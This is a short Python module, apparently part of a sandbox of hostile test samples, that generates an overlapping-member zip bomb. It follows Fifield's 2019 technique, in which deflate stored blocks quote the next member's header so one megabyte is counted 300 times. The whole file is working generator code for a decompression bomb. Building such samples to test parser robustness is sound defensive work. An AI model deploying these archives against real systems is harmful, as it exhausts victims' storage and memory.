"""Members that lie inside each other: each one's packed bytes begin by quoting the next one's header, then are the next's.

So a kilobyte is counted three hundred times. After David Fifield's "A better zip bomb" (2019).
"""

import zlib

from sandbox.hostile.deflate import deflated
from sandbox.hostile.word_file import Member, listed

_MEGABYTE = b"0" * (1 << 20)


def overlapping(before: list[Member], count: int = 300) -> bytes:
    """The ordinary members, then one megabyte that is there `count` times."""
    content = _MEGABYTE
    inside = [Member(f"o{count}", deflated((content, 1)), len(content), zlib.crc32(content))]
    for number in range(count - 1, 0, -1):
        after = inside[-1]
        content = after.head + content
        packed = _quoted(after.head) + after.packed
        inside.append(Member(f"o{number}", packed, len(content), zlib.crc32(content)))
    body, entries = b"", []
    for one in before:
        entries.append(one.entry(len(body)))
        body += one.head + one.packed
    outermost = inside[-1]
    end = len(body) + len(outermost.head + outermost.packed)
    entries += [one.entry(end - len(one.head + one.packed)) for one in reversed(inside)]
    return listed(body + outermost.head + outermost.packed, entries)


def _quoted(content: bytes) -> bytes:
    """A deflate block that holds the bytes as they are, and is not the last."""
    size = len(content)
    return b"\0" + size.to_bytes(2, "little") + (size ^ 0xFFFF).to_bytes(2, "little") + content
